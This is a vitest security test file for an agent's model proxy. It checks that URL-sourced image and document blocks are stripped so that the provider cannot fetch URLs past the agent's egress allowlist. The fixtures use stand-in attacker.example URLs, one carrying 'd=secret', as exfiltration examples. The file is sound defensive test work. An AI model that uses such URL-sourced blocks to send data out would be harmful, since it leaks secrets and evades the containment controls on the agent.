import { describe, expect, it } from "vitest";
import { forwardedBody } from "../../../src/durable/model-proxy.ts";
import { withoutUrlSources } from "../../../src/durable/proxy-url-sources.ts";

/**
 * Issue 40 (low): the container's model calls may not make the provider fetch a URL: an image or document block
 * sourced by URL would reach past AGENT_EGRESS_HOSTS (the provider fetches it for the agent), so the proxy drops it.
 */
describe("security: URL-sourced blocks through the model proxy", () => {
  it("drops image and document blocks sourced by URL, in messages and in tool results, and keeps base64 ones", () => {
    const body = forwardedBody({
      model: "m",
      messages: [
        {
          role: "user",
          content: [
            { type: "image", source: { type: "url", url: "https://attacker.example/i.png?d=secret" } },
            { type: "image", source: { type: "base64", media_type: "image/png", data: "AAAA" } },
            {
              type: "tool_result",
              tool_use_id: "t",
              content: [{ type: "document", source: { type: "url", url: "https://attacker.example/d.pdf" } }],
            },
          ],
        },
      ],
    });
    const text = JSON.stringify(body);
    expect(text).not.toContain("attacker.example");
    expect(text).toContain('"data":"AAAA"');
  });

  it("drops the Responses API's input_image and input_file by URL, keeping data URLs", () => {
    const cleaned = withoutUrlSources([
      { type: "input_image", image_url: "https://attacker.example/i.png" },
      { type: "input_image", image_url: "data:image/png;base64,AAAA" },
      { type: "input_file", file_url: "https://attacker.example/f.pdf" },
    ]);
    expect(JSON.stringify(cleaned)).not.toContain("attacker.example");
    expect(JSON.stringify(cleaned)).toContain("data:image/png;base64,AAAA");
  });
});
